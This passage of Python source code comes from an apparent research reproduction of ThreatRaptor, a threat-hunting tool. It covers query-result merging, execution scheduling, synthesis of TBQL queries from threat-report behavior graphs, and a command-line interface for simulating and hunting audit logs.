    def as_dicts(self) -> list[dict[str, Any]]:
        """Result rows as dictionaries keyed by column name."""
        return [dict(zip(self.columns, row)) for row in self.rows]

    def column(self, name: str) -> list[Any]:
        """One output column as a list.

        Raises:
            KeyError: if the column is not part of the result.
        """
        if name not in self.columns:
            raise KeyError(f"result has no column {name!r}")
        index = self.columns.index(name)
        return [row[index] for row in self.rows]

    def all_matched_event_ids(self) -> set[int]:
        """The union of matched audit event ids across all event identifiers."""
        matched: set[int] = set()
        for ids in self.matched_event_ids.values():
            matched |= ids
        return matched

    def merged_with(self, other: "TBQLResult") -> "TBQLResult":
        """This result combined with ``other`` (see :func:`merge_results`)."""
        return merge_results((self, other))

    def to_table(self, limit: int | None = 20) -> str:
        """Plain-text table rendering for the CLI and examples."""
        if not self.rows:
            return "(no results)"
        shown = list(self.rows[:limit] if limit is not None else self.rows)
        widths = [
            max(len(str(column)), *(len(str(row[i])) for row in shown))
            for i, column in enumerate(self.columns)
        ]
        header = " | ".join(str(col).ljust(widths[i]) for i, col in enumerate(self.columns))
        separator = "-+-".join("-" * width for width in widths)
        lines = [header, separator]
        for row in shown:
            lines.append(" | ".join(str(value).ljust(widths[i]) for i, value in enumerate(row)))
        if limit is not None and len(self.rows) > limit:
            lines.append(f"... ({len(self.rows) - limit} more rows)")
        return "\n".join(lines)


def _merge_statistics(target: dict[str, Any], source: dict[str, Any]) -> None:
    for key, value in source.items():
        existing = target.get(key)
        if isinstance(value, dict):
            if not isinstance(existing, dict):
                existing = {}
                target[key] = existing
            _merge_statistics(existing, value)
        elif (
            isinstance(value, (int, float))
            and not isinstance(value, bool)
            and isinstance(existing, (int, float))
            and not isinstance(existing, bool)
        ):
            target[key] = existing + value
        else:
            target[key] = value


def merge_results(results: Iterable[TBQLResult], distinct: bool = False) -> TBQLResult:
    """Combine per-shard results of one query into a single result.

    Rows and bindings are concatenated, matched event ids are unioned per
    event identifier, and numeric statistics counters are summed (nested
    dictionaries recursively; booleans and strings take the last shard's
    value).  With ``distinct`` the merged rows are deduplicated in first-seen
    order, re-establishing ``SELECT DISTINCT`` semantics that per-shard
    execution can only enforce locally.
    """
    merged = TBQLResult()
    rows: list[tuple[Any, ...]] = []
    count = 0
    for result in results:
        count += 1
        if not merged.columns and result.columns:
            merged.columns = result.columns
        rows.extend(result.rows)
        for key, ids in result.matched_event_ids.items():
            merged.matched_event_ids.setdefault(key, set()).update(ids)
        merged.bindings.extend(result.bindings)
        _merge_statistics(merged.statistics, result.statistics)
    if distinct:
        rows = list(dict.fromkeys(rows))
    merged.rows = tuple(rows)
    if count > 1:
        merged.statistics["merged_shards"] = count
    return merged
