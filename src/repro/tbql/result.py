"""Result objects returned by the TBQL execution engine."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any


@dataclass
class TBQLResult:
    """The outcome of executing one TBQL query.

    Attributes:
        columns: Output column names in return-clause order (e.g.
            ``("p1.exename", "f1.name")``).
        rows: Result rows aligned with ``columns``.
        matched_event_ids: Ids of every audit event matched by any surviving
            binding, grouped by the TBQL event identifier.  The hunting
            benchmarks compare these against attack ground truth.
        bindings: The complete surviving variable bindings (entity identifier →
            entity row, event identifier → event row) before projection.
        statistics: Engine counters (per-pattern candidate counts, scheduling
            order, execution timings).
    """

    columns: tuple[str, ...] = ()
    rows: tuple[tuple[Any, ...], ...] = ()
    matched_event_ids: dict[str, set[int]] = field(default_factory=dict)
    bindings: list[dict[str, dict[str, Any]]] = field(default_factory=list)
    statistics: dict[str, Any] = field(default_factory=dict)

    def __len__(self) -> int:
        return len(self.rows)

    def __bool__(self) -> bool:
        return bool(self.rows)

    def as_dicts(self) -> list[dict[str, Any]]:
        """Result rows as dictionaries keyed by column name."""
        return [dict(zip(self.columns, row)) for row in self.rows]

    def column(self, name: str) -> list[Any]:
        """One output column as a list.

        Raises:
            KeyError: if the column is not part of the result.
        """
        if name not in self.columns:
            raise KeyError(f"result has no column {name!r}")
        index = self.columns.index(name)
        return [row[index] for row in self.rows]

    def all_matched_event_ids(self) -> set[int]:
        """The union of matched audit event ids across all event identifiers."""
        matched: set[int] = set()
        for ids in self.matched_event_ids.values():
            matched |= ids
        return matched

    def to_table(self, limit: int | None = 20) -> str:
        """Plain-text table rendering for the CLI and examples."""
        if not self.rows:
            return "(no results)"
        shown = list(self.rows[:limit] if limit is not None else self.rows)
        widths = [
            max(len(str(column)), *(len(str(row[i])) for row in shown))
            for i, column in enumerate(self.columns)
        ]
        header = " | ".join(str(col).ljust(widths[i]) for i, col in enumerate(self.columns))
        separator = "-+-".join("-" * width for width in widths)
        lines = [header, separator]
        for row in shown:
            lines.append(" | ".join(str(value).ljust(widths[i]) for i, value in enumerate(row)))
        if limit is not None and len(self.rows) > limit:
            lines.append(f"... ({len(self.rows) - limit} more rows)")
        return "\n".join(lines)
