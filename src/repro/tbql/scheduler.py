"""Pruning-score based scheduling of TBQL pattern execution.

"For each pattern, ThreatRaptor computes a pruning score by counting the
number of constraints declared; a pattern with more constraints has a higher
score.  For a variable-length event path pattern, ThreatRaptor additionally
considers the path length; a pattern with a smaller maximum path length has a
higher score.  Then, when scheduling the execution of the data queries,
ThreatRaptor considers both the pruning scores and the pattern dependencies:
if two patterns are connected by the same system entity, ThreatRaptor will
first execute the data query whose associated pattern has a higher pruning
score, and then use the execution results to constrain the execution of the
other data query (by adding filters)." (Section II-F)

The scheduler implements exactly this policy: the most constrained pattern
runs first; afterwards, patterns connected (through a shared entity
identifier) to something already executed are preferred, highest score first,
so their data queries can be constrained by the entity ids already found.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.tbql.ast import EventPattern, Pattern, PathPattern, Query


def pruning_score(pattern: Pattern) -> float:
    """The pruning score of one pattern.

    Higher means "expected to match fewer records, run it earlier".  Event
    patterns score their declared constraint count; path patterns are
    penalised by their maximum length (longer paths explore more of the graph
    and prune less).
    """
    score = float(pattern.constraint_count())
    if isinstance(pattern, PathPattern):
        score += 1.0 / float(pattern.max_length)
        score -= 0.5  # all else equal, run exact event patterns first
    return score


@dataclass(frozen=True)
class ScheduledPattern:
    """One step of the execution schedule."""

    pattern: Pattern
    score: float
    #: Entity identifiers shared with previously scheduled patterns; the
    #: executor constrains these with the ids found so far.
    constrained_identifiers: tuple[str, ...]


class ExecutionScheduler:
    """Orders the patterns of a query for execution."""

    def schedule(self, query: Query) -> list[ScheduledPattern]:
        """Produce the execution order for ``query``'s patterns."""
        # Ties on pruning score break toward declaration order.  Declaration
        # indices are precomputed per position: looking a pattern up with
        # ``list.index`` would find the *first equal* pattern, misordering
        # queries that declare duplicate (dataclass-equal) patterns.
        scores = [pruning_score(pattern) for pattern in query.patterns]
        remaining: list[int] = list(range(len(query.patterns)))
        scheduled: list[ScheduledPattern] = []
        bound_identifiers: set[str] = set()

        while remaining:
            connected = [
                index
                for index in remaining
                if bound_identifiers.intersection(query.patterns[index].entity_identifiers())
            ]
            candidates = connected if connected else remaining
            best_index = max(candidates, key=lambda index: (scores[index], -index))
            best = query.patterns[best_index]
            shared = tuple(
                identifier
                for identifier in best.entity_identifiers()
                if identifier in bound_identifiers
            )
            scheduled.append(
                ScheduledPattern(
                    pattern=best, score=scores[best_index], constrained_identifiers=shared
                )
            )
            bound_identifiers.update(best.entity_identifiers())
            remaining.remove(best_index)
        return scheduled

    def schedule_unoptimized(self, query: Query) -> list[ScheduledPattern]:
        """Left-to-right declaration order with no constraint propagation.

        This is the baseline the query-efficiency experiment compares against:
        every pattern's data query runs unconstrained, and all pruning happens
        only at join time.
        """
        return [
            ScheduledPattern(pattern=pattern, score=pruning_score(pattern), constrained_identifiers=())
            for pattern in query.patterns
        ]


__all__ = ["ExecutionScheduler", "ScheduledPattern", "pruning_score"]
