"""TBQL query synthesis from a threat behavior graph.

The synthesis mechanism (Section II-E) turns the extracted threat behavior
graph into an executable TBQL query:

1. **Screening** — nodes whose IOC types are not captured by the system
   auditing component (URLs, e-mails, hashes, registry keys, CVE ids) are
   filtered out together with their edges.
2. **Operation mapping** — each edge's relation verb is mapped to a TBQL
   operation type using a rule table, considering the IOC types of both
   endpoints (e.g. the "download" relation between two file paths maps to a
   ``write`` operation: a process writes data to a file).
3. **Entity synthesis** — the subject entity is synthesized from the source
   node and the object entity from the sink node; a process entity is
   synthesized for file-path subjects because the acting entity in audit data
   is the *process executing* that program image.
4. **Event pattern synthesis** — entities are connected with the operation.
5. **Temporal relationships** — the ``with`` clause orders events by the
   sequence numbers of the corresponding edges.
6. **Return clause** — all entity identifiers are appended, ``distinct``.

Besides the default plan, user-defined plans can synthesize path patterns (an
edge becomes a variable-length event path) and time windows.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.auditing.entities import EntityType
from repro.auditing.events import OPERATIONS_BY_EVENT_TYPE, Operation, event_type_for_object
from repro.errors import SynthesisError
from repro.nlp.behavior_graph import BehaviorEdge, BehaviorNode, ThreatBehaviorGraph
from repro.nlp.ioc import IOCType
from repro.nlp.lexicon import RELATION_VERB_OPERATIONS
from repro.storage.relational.expression import escape_like
from repro.tbql.ast import (
    AttributeComparison,
    EntityDeclaration,
    EventPattern,
    FilterExpression,
    FilterOperator,
    OperationExpression,
    PathPattern,
    Query,
    ReturnItem,
    TemporalRelation,
    TimeWindow,
)

#: IOC types the system auditing component captures (everything else is
#: screened out during synthesis).
AUDITABLE_IOC_TYPES = frozenset({IOCType.FILEPATH, IOCType.FILENAME, IOCType.IP})

#: Identifier prefixes per synthesized entity type, matching the paper's
#: example (p1, f1, i1, ...).
_IDENTIFIER_PREFIX = {
    EntityType.PROCESS: "p",
    EntityType.FILE: "f",
    EntityType.NETWORK: "i",
}


@dataclass
class SynthesisPlan:
    """Options controlling how the query is synthesized.

    Attributes:
        use_path_patterns: Synthesize variable-length path patterns instead of
            single event patterns for every edge.  Useful when the OSCTI text
            omits intermediate processes that chain the system events.
        path_min_length: Minimum path length for path patterns.
        path_max_length: Maximum path length for path patterns.
        time_window: Optional ``(start, end)`` window attached to every
            synthesized pattern.
        wildcard_filters: Wrap entity name filters in ``%...%`` wildcards so
            partial paths in the report still match full paths in audit data.
        distinct: Emit ``return distinct``.
    """

    use_path_patterns: bool = False
    path_min_length: int = 1
    path_max_length: int = 4
    time_window: tuple[int, int] | None = None
    wildcard_filters: bool = True
    distinct: bool = True


@dataclass
class SynthesisReport:
    """What the synthesizer did: kept/dropped nodes and the produced query."""

    query: Query
    screened_nodes: list[BehaviorNode] = field(default_factory=list)
    kept_edges: int = 0
    dropped_edges: int = 0


class QuerySynthesizer:
    """Synthesizes a TBQL query from a threat behavior graph."""

    def __init__(self, plan: SynthesisPlan | None = None) -> None:
        self._plan = plan or SynthesisPlan()

    # -- public API -----------------------------------------------------------

    def synthesize(self, graph: ThreatBehaviorGraph) -> Query:
        """Synthesize and return the TBQL query (raises when nothing remains)."""
        return self.synthesize_with_report(graph).query

    def synthesize_with_report(self, graph: ThreatBehaviorGraph) -> SynthesisReport:
        """Synthesize the query and report the screening decisions.

        Raises:
            SynthesisError: when, after screening, no edge can be mapped to an
                auditable event pattern.
        """
        screened = [node for node in graph.nodes if node.ioc_type not in AUDITABLE_IOC_TYPES]
        screened_keys = {id(node) for node in screened}

        query = Query(distinct=self._plan.distinct)
        identifiers: dict[str, str] = {}  # node key -> entity identifier
        identifier_counters = {prefix: 0 for prefix in _IDENTIFIER_PREFIX.values()}
        declared: dict[str, EntityDeclaration] = {}
        kept_edges = 0
        dropped_edges = 0
        previous_event_id: str | None = None

        for edge in graph.edges_in_order():
            if id(edge.subject) in screened_keys or id(edge.obj) in screened_keys:
                dropped_edges += 1
                continue
            mapped = self._map_edge(edge)
            if mapped is None:
                dropped_edges += 1
                continue
            operation, object_entity_type = mapped
            subject_decl = self._entity_for_node(
                edge.subject, EntityType.PROCESS, identifiers, identifier_counters, declared
            )
            object_decl = self._entity_for_node(
                edge.obj, object_entity_type, identifiers, identifier_counters, declared
            )
            kept_edges += 1
            event_id = f"evt{kept_edges}"
            window = (
                TimeWindow(start=self._plan.time_window[0], end=self._plan.time_window[1])
                if self._plan.time_window is not None
                else None
            )
            if self._plan.use_path_patterns:
                pattern: EventPattern | PathPattern = PathPattern(
                    subject=subject_decl,
                    operation=OperationExpression(operations=(operation.value,)),
                    obj=object_decl,
                    event_id=event_id,
                    min_length=self._plan.path_min_length,
                    max_length=self._plan.path_max_length,
                    window=window,
                )
            else:
                pattern = EventPattern(
                    subject=subject_decl,
                    operation=OperationExpression(operations=(operation.value,)),
                    obj=object_decl,
                    event_id=event_id,
                    window=window,
                )
            query.patterns.append(pattern)
            if previous_event_id is not None:
                query.temporal_relations.append(
                    TemporalRelation(left=previous_event_id, relation="before", right=event_id)
                )
            previous_event_id = event_id

        if not query.patterns:
            raise SynthesisError(
                "no auditable event patterns remain after screening the behavior graph"
            )

        for identifier in query.entity_identifiers():
            query.return_items.append(ReturnItem(identifier=identifier))

        return SynthesisReport(
            query=query,
            screened_nodes=screened,
            kept_edges=kept_edges,
            dropped_edges=dropped_edges,
        )

    # -- edge mapping -------------------------------------------------------------

    def _map_edge(self, edge: BehaviorEdge) -> tuple[Operation, EntityType] | None:
        """Map an edge's verb + endpoint IOC types to (operation, object entity type)."""
        operation_name = RELATION_VERB_OPERATIONS.get(edge.verb)
        object_type = self._object_entity_type(edge.obj)
        if object_type is None:
            return None
        if operation_name is None:
            # Unknown verb: fall back to a type-appropriate default operation.
            operation_name = {
                EntityType.FILE: "read",
                EntityType.PROCESS: "fork",
                EntityType.NETWORK: "connect",
            }[object_type]
        operation = Operation.from_string(operation_name)
        event_type = event_type_for_object(object_type)
        valid = OPERATIONS_BY_EVENT_TYPE[event_type]
        if operation not in valid:
            # The verb's natural operation does not exist for this object type
            # (e.g. "download"→write toward an IP): coerce to the closest valid
            # operation for the object type.
            operation = self._coerce_operation(operation, object_type)
        return operation, object_type

    @staticmethod
    def _coerce_operation(operation: Operation, object_type: EntityType) -> Operation:
        if object_type is EntityType.NETWORK:
            if operation in (Operation.WRITE, Operation.SEND):
                return Operation.SEND
            if operation in (Operation.READ, Operation.RECV):
                return Operation.RECV
            return Operation.CONNECT
        if object_type is EntityType.PROCESS:
            if operation in (Operation.EXECUTE, Operation.EXEC):
                return Operation.EXEC
            if operation is Operation.KILL:
                return Operation.KILL
            return Operation.FORK
        # Files.
        if operation in (Operation.SEND,):
            return Operation.WRITE
        if operation in (Operation.RECV, Operation.CONNECT, Operation.ACCEPT):
            return Operation.READ
        if operation in (Operation.FORK, Operation.EXEC):
            return Operation.EXECUTE
        return Operation.READ

    @staticmethod
    def _object_entity_type(node: BehaviorNode) -> EntityType | None:
        if node.ioc_type in (IOCType.FILEPATH, IOCType.FILENAME):
            return EntityType.FILE
        if node.ioc_type is IOCType.IP:
            return EntityType.NETWORK
        return None

    # -- entity synthesis ------------------------------------------------------------

    def _entity_for_node(
        self,
        node: BehaviorNode,
        entity_type: EntityType,
        identifiers: dict[str, str],
        counters: dict[str, int],
        declared: dict[str, EntityDeclaration],
    ) -> EntityDeclaration:
        """Synthesize (or reuse) the entity declaration for a graph node.

        One behavior-graph node maps to one entity identifier per entity type
        role: a file-path IOC that acts both as a subject (process) and an
        object (file) gets distinct ``p``/``f`` identifiers, as in the paper's
        example where ``/tmp/crack`` would be both a written file and a
        running process.
        """
        key = f"{node.ioc.normalized()}|{entity_type.value}"
        identifier = identifiers.get(key)
        if identifier is not None:
            return declared[identifier]
        prefix = _IDENTIFIER_PREFIX[entity_type]
        counters[prefix] += 1
        identifier = f"{prefix}{counters[prefix]}"
        identifiers[key] = identifier

        declaration = EntityDeclaration(
            entity_type=entity_type,
            identifier=identifier,
            filter=FilterExpression.leaf(
                AttributeComparison(
                    attribute="",
                    operator=FilterOperator.LIKE,
                    value=self._filter_value(node, entity_type),
                )
            ),
        )
        declared[identifier] = declaration
        return declaration

    def _filter_value(self, node: BehaviorNode, entity_type: EntityType) -> str:
        # The canonical form (defanged, trailing punctuation stripped) is what
        # audit records actually contain — raw surface text from a defanged
        # report (``192[.]168[.]29[.]128``) would never match.  It is also the
        # form behind the IOC counts reported by ``HuntReport.summary``.
        text = node.ioc.normalized()
        if node.ioc_type is IOCType.IP:
            # Strip any CIDR suffix: audit records store plain addresses.
            return text.split("/")[0]
        # Literal ``%``/``_`` in the IOC (URL-encoded paths like
        # ``/tmp/a%20b``) must match literally, not as LIKE wildcards.
        escaped = escape_like(text)
        if self._plan.wildcard_filters:
            return f"%{escaped}%"
        return escaped
