"""Command-line interface for the ThreatRaptor reproduction.

The CLI exposes the same end-to-end flow the paper demonstrates through its
web UI, as four subcommands:

* ``threatraptor simulate`` — generate a simulated audit log (benign workload
  plus the demo attacks, or a seeded multi-stage campaign with ``--campaign``)
  and write it in Sysdig format;
* ``threatraptor extract`` — run threat behavior extraction on an OSCTI report
  and print the threat behavior graph;
* ``threatraptor synthesize`` — additionally synthesize and print the TBQL
  query;
* ``threatraptor hunt`` — full pipeline: load an audit log, extract, synthesize
  and execute, printing the matched system auditing records;
* ``threatraptor watch`` — continuous hunting: stream an audit log through
  micro-batched ingestion with a standing query, printing alerts as they fire;
* ``threatraptor corpus`` — corpus-scale hunting: extract a whole directory of
  OSCTI reports (optionally in parallel), dedup equivalent synthesized queries
  into standing hunts, and stream an audit log through them, printing alerts
  with per-report provenance;
* ``threatraptor lint`` — statically analyze TBQL query files (the same
  satisfiability/dead-predicate/cost/portability rules that gate hunt
  registration) without executing anything; exits non-zero on errors.
"""

from __future__ import annotations

import argparse
import sys
from typing import Sequence

from repro.auditing.sysdig import write_trace
from repro.auditing.workload.attacks import ATTACK_SCENARIOS
from repro.auditing.workload.generator import HostSimulator
from repro.core.config import ThreatRaptorConfig
from repro.core.pipeline import ThreatRaptor
from repro.errors import ThreatRaptorError
from repro.tbql.formatter import format_query


def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="threatraptor",
        description="Threat hunting in system audit logs using OSCTI (ThreatRaptor reproduction)",
    )
    subparsers = parser.add_subparsers(dest="command", required=True)

    simulate = subparsers.add_parser("simulate", help="generate a simulated audit log")
    simulate.add_argument("output", help="path of the Sysdig-format log file to write")
    simulate.add_argument("--seed", type=int, default=7, help="random seed (default: 7)")
    simulate.add_argument(
        "--scale", type=float, default=1.0, help="benign workload scale factor (default: 1.0)"
    )
    simulate.add_argument(
        "--attack",
        action="append",
        choices=sorted(ATTACK_SCENARIOS),
        default=None,
        help="attack scenario to inject (repeatable; default: both demo attacks)",
    )
    simulate.add_argument(
        "--campaign",
        action="store_true",
        help=(
            "generate a seeded multi-stage kill-chain campaign (repro.scenarios) "
            "instead of the fixed demo attacks"
        ),
    )
    simulate.add_argument(
        "--ground-truth",
        default=None,
        metavar="JSON",
        help=(
            "with --campaign: also write the campaign ground truth (malicious "
            "event ids plus expected TBQL hunts) to this JSON file"
        ),
    )

    extract = subparsers.add_parser("extract", help="extract a threat behavior graph from a report")
    extract.add_argument("report", help="path of the OSCTI report text file")

    synthesize = subparsers.add_parser(
        "synthesize", help="extract a behavior graph and synthesize a TBQL query"
    )
    synthesize.add_argument("report", help="path of the OSCTI report text file")
    synthesize.add_argument(
        "--path-patterns", action="store_true", help="synthesize variable-length path patterns"
    )

    hunt = subparsers.add_parser("hunt", help="run the full hunting pipeline")
    hunt.add_argument("report", help="path of the OSCTI report text file")
    hunt.add_argument("log", help="path of the Sysdig-format audit log to search")
    hunt.add_argument(
        "--backend",
        choices=("auto", "relational", "sql", "graph"),
        default="auto",
        help="query execution backend (default: auto)",
    )
    hunt.add_argument(
        "--no-optimize",
        action="store_true",
        help="disable pruning-score scheduling and constraint propagation",
    )
    hunt.add_argument("--limit", type=int, default=20, help="max result rows to print")

    query = subparsers.add_parser("query", help="run a hand-written TBQL query over an audit log")
    query.add_argument("tbql", help="path of the TBQL query file (or '-' for stdin)")
    query.add_argument("log", help="path of the Sysdig-format audit log to search")
    query.add_argument("--limit", type=int, default=20, help="max result rows to print")

    watch = subparsers.add_parser(
        "watch", help="continuously hunt over a streamed audit log (standing query)"
    )
    watch.add_argument("report", help="path of the OSCTI report text file")
    watch.add_argument("log", help="path of the Sysdig-format audit log to stream")
    watch.add_argument(
        "--batch-size", type=int, default=256, help="events per ingestion micro-batch (default: 256)"
    )
    watch.add_argument(
        "--follow",
        action="store_true",
        help="keep tailing the log for new records instead of stopping at EOF",
    )
    watch.add_argument(
        "--max-events", type=int, default=None, help="stop after streaming this many events"
    )
    watch.add_argument(
        "--alerts", default=None, help="also append alerts as JSON lines to this file"
    )
    watch.add_argument(
        "--checkpoint-dir",
        default=None,
        help=(
            "directory for crash-safe state: standing state is checkpointed "
            "after every micro-batch and alerts are journaled durably; an "
            "existing checkpoint there is resumed (no alert re-emitted)"
        ),
    )
    watch.add_argument(
        "--data-dir",
        default=None,
        help=(
            "store audit data durably in this directory as time-partitioned "
            "on-disk segments (storage='segments'); reopening the directory "
            "restores the stored data"
        ),
    )
    watch.add_argument(
        "--shards",
        type=int,
        default=1,
        help="partition audit storage by host across this many shards (default: 1)",
    )
    watch.add_argument(
        "--backend",
        choices=("auto", "relational", "sql", "graph"),
        default="auto",
        help="query execution backend for the standing hunt (default: auto)",
    )

    corpus = subparsers.add_parser(
        "corpus",
        help="hunt a whole corpus of OSCTI reports over a streamed audit log",
    )
    corpus.add_argument(
        "reports",
        help=(
            "directory of OSCTI report .txt files, a .jsonl feed dump, or the "
            "literal 'bundled' for the built-in annotated corpus"
        ),
    )
    corpus.add_argument("log", help="path of the Sysdig-format audit log to stream")
    corpus.add_argument(
        "--workers", type=int, default=1, help="extraction worker-pool size (default: 1)"
    )
    corpus.add_argument(
        "--batch-size", type=int, default=256, help="events per ingestion micro-batch (default: 256)"
    )
    corpus.add_argument(
        "--max-events", type=int, default=None, help="stop after streaming this many events"
    )
    corpus.add_argument(
        "--alerts", default=None, help="also append alerts as JSON lines to this file"
    )
    corpus.add_argument(
        "--data-dir",
        default=None,
        help=(
            "store audit data durably in this directory as time-partitioned "
            "on-disk segments (storage='segments')"
        ),
    )
    corpus.add_argument(
        "--shards",
        type=int,
        default=1,
        help="partition audit storage by host across this many shards (default: 1)",
    )

    lint = subparsers.add_parser(
        "lint", help="statically analyze TBQL query files without executing them"
    )
    lint.add_argument(
        "files",
        nargs="+",
        help="TBQL query files to analyze (or '-' for stdin)",
    )
    lint.add_argument(
        "--format",
        choices=("text", "json"),
        default="text",
        help="diagnostic output format (default: text)",
    )
    lint.add_argument(
        "--backend",
        choices=("auto", "relational", "sql", "graph"),
        default="auto",
        help="execution backend the queries are checked against (default: auto)",
    )
    lint.add_argument(
        "--log",
        default=None,
        help=(
            "optional Sysdig-format audit log; when given, its index "
            "statistics feed the cost/cardinality rules (TR304)"
        ),
    )
    return parser


def _command_simulate(args: argparse.Namespace) -> int:
    if args.campaign:
        return _simulate_campaign(args)
    if args.ground_truth is not None:
        print("error: --ground-truth requires --campaign", file=sys.stderr)
        return 2
    simulator = HostSimulator(seed=args.seed, benign_scale=args.scale).add_default_benign()
    attack_names = args.attack or ["password-cracking", "data-leakage"]
    for name in attack_names:
        simulator.add_attack(ATTACK_SCENARIOS[name]())
    result = simulator.run()
    with open(args.output, "w", encoding="utf-8") as handle:
        count = write_trace(result.trace, handle)
    summary = result.trace.summary()
    print(f"wrote {count} audit records to {args.output}")
    print(f"entities={summary['entities']} events={summary['events']} malicious={summary['malicious_events']}")
    return 0


def _simulate_campaign(args: argparse.Namespace) -> int:
    import json

    from repro.scenarios import generate_labeled_trace

    if args.attack:
        print("error: --attack cannot be combined with --campaign", file=sys.stderr)
        return 2
    campaign = generate_labeled_trace(seed=args.seed, noise_scale=args.scale)
    with open(args.output, "w", encoding="utf-8") as handle:
        count = write_trace(campaign.trace, handle)
    summary = campaign.summary()
    print(f"wrote {count} audit records to {args.output}")
    print(f"campaign {campaign.name}: stages={','.join(campaign.spec.variants)}")
    print(
        f"events={summary['events']} malicious={summary['malicious_events']} "
        f"hosts={summary['hosts']} hunts={','.join(hunt.name for hunt in campaign.hunts)}"
    )
    if args.ground_truth is not None:
        payload = {
            "name": campaign.name,
            "seed": campaign.seed,
            "stages": list(campaign.spec.variants),
            "hosts": campaign.spec.hosts,
            "event_ids": sorted(campaign.ground_truth.event_ids),
            "hunts": [
                {
                    "name": hunt.name,
                    "tbql": hunt.query_text,
                    "expected_event_ids": sorted(hunt.expected_event_ids),
                }
                for hunt in campaign.hunts
            ],
        }
        with open(args.ground_truth, "w", encoding="utf-8") as handle:
            json.dump(payload, handle, indent=2)
            handle.write("\n")
        print(f"wrote ground truth to {args.ground_truth}")
    return 0


def _command_extract(args: argparse.Namespace) -> int:
    with open(args.report, "r", encoding="utf-8") as handle:
        text = handle.read()
    raptor = ThreatRaptor()
    extraction = raptor.extract_behavior_graph(text)
    print(f"IOCs recognised: {len(extraction.canonical_iocs())}")
    print("Threat behavior graph:")
    for line in extraction.graph.to_lines():
        print(f"  {line}")
    return 0


def _command_synthesize(args: argparse.Namespace) -> int:
    with open(args.report, "r", encoding="utf-8") as handle:
        text = handle.read()
    config = ThreatRaptorConfig(synthesis_use_path_patterns=args.path_patterns)
    raptor = ThreatRaptor(config)
    extraction = raptor.extract_behavior_graph(text)
    query = raptor.synthesize_query(extraction.graph)
    print(format_query(query))
    return 0


def _command_hunt(args: argparse.Namespace) -> int:
    config = ThreatRaptorConfig(
        execution_backend=args.backend, optimize_execution=not args.no_optimize
    )
    raptor = ThreatRaptor(config)
    raptor.load_log_file(args.log)
    with open(args.report, "r", encoding="utf-8") as handle:
        text = handle.read()
    report = raptor.hunt(text)
    print("Synthesized TBQL query:")
    print(report.query_text)
    print()
    print("Matched system auditing records:")
    print(report.result.to_table(limit=args.limit))
    summary = report.summary()
    print()
    print(
        f"behavior edges={summary['behavior_edges']} patterns={summary['query_patterns']} "
        f"rows={summary['result_rows']} matched events={summary['matched_events']}"
    )
    return 0


def _command_query(args: argparse.Namespace) -> int:
    if args.tbql == "-":
        source = sys.stdin.read()
    else:
        with open(args.tbql, "r", encoding="utf-8") as handle:
            source = handle.read()
    raptor = ThreatRaptor()
    raptor.load_log_file(args.log)
    result = raptor.execute_query(source)
    print(result.to_table(limit=args.limit))
    print(f"({len(result)} rows, {len(result.all_matched_event_ids())} matched events)")
    return 0


def _storage_config(args: argparse.Namespace) -> ThreatRaptorConfig | None:
    """Pipeline config for the ``--data-dir`` / ``--shards`` / ``--backend`` flags.

    Returns ``None`` (pipeline defaults) when no flag was given.
    """
    data_dir = getattr(args, "data_dir", None)
    shards = getattr(args, "shards", 1)
    backend = getattr(args, "backend", "auto")
    if data_dir is None and shards == 1 and backend == "auto":
        return None
    return ThreatRaptorConfig(
        storage="segments" if data_dir is not None else "memory",
        data_dir=data_dir,
        shards=shards,
        execution_backend=backend,
    )


def _command_watch(args: argparse.Namespace) -> int:
    from repro.streaming import CallbackSink, JSONLSink, LogTailSource

    with open(args.report, "r", encoding="utf-8") as handle:
        text = handle.read()
    raptor = ThreatRaptor(_storage_config(args))
    checkpoint_dir = getattr(args, "checkpoint_dir", None)
    service = raptor.watch(
        text, name="watch", batch_size=args.batch_size, checkpoint_dir=checkpoint_dir
    )
    if service.resumed:
        journal = service.journal
        recovered = journal.recovered_entries if journal is not None else 0
        print(f"Resumed from checkpoint in {checkpoint_dir} ({recovered} journaled alerts)")
    service.add_sink(CallbackSink(lambda alert: print(f"ALERT {alert.describe()}")))

    standing = service.hunts[0]
    print("Standing TBQL query:")
    print(standing.query_text)
    print()

    source = LogTailSource(
        path=args.log, follow=args.follow, max_events=args.max_events
    )
    if args.alerts is not None:
        with open(args.alerts, "a", encoding="utf-8") as alert_stream:
            service.add_sink(JSONLSink(alert_stream))
            service.run(source)
    else:
        service.run(source)

    stats = service.statistics()
    ingest = stats["ingest"]
    hunt_stats = stats["hunts"]["watch"]
    print()
    print(
        f"batches={ingest['batches']} events={ingest['events_ingested']} "
        f"stored={ingest['events_stored']} "
        f"throughput={ingest['events_per_second']:.0f} events/s"
    )
    print(
        f"evaluations={hunt_stats['evaluations']} alerts={hunt_stats['alerts']} "
        f"matched events={hunt_stats['matched_events']}"
    )
    if service.journal is not None:
        service.journal.close()
    return 0


def _load_corpus(spec: str):
    from repro.intel import ReportCorpus

    if spec == "bundled":
        return ReportCorpus.bundled()
    if spec.endswith(".jsonl"):
        return ReportCorpus.from_jsonl(spec)
    return ReportCorpus.from_directory(spec)


def _command_corpus(args: argparse.Namespace) -> int:
    from repro.streaming import CallbackSink, JSONLSink, LogTailSource

    corpus = _load_corpus(args.reports)
    raptor = ThreatRaptor(_storage_config(args))
    result = raptor.hunt_corpus(
        corpus, workers=args.workers, batch_size=args.batch_size
    )
    service = result.service
    service.add_sink(CallbackSink(lambda alert: print(f"ALERT {alert.describe()}")))

    summary = result.summary()
    print(
        f"corpus: {summary['reports']} reports -> {summary['hunts']} standing hunts "
        f"({summary['hunts_registered']} new, {summary['skipped_reports']} skipped, "
        f"dedup ratio {summary['dedup_ratio']:.2f})"
    )
    for hunt in result.hunts:
        print(f"  {hunt.name}: reports={','.join(hunt.report_ids)}")
    for report_id, reason in result.skipped.items():
        print(f"  skipped {report_id}: {reason}")
    for rejection in result.rejected:
        rules = ",".join(sorted({d.rule for d in rejection.diagnostics}))
        print(
            f"  rejected [{rules}] reports={','.join(rejection.report_ids)}: "
            f"{rejection.query_text.splitlines()[0]}"
        )
    print()

    source = LogTailSource(path=args.log, follow=False, max_events=args.max_events)
    if args.alerts is not None:
        with open(args.alerts, "a", encoding="utf-8") as alert_stream:
            service.add_sink(JSONLSink(alert_stream))
            alerts = service.run(source)
    else:
        alerts = service.run(source)

    stats = service.statistics()
    ingest = stats["ingest"]
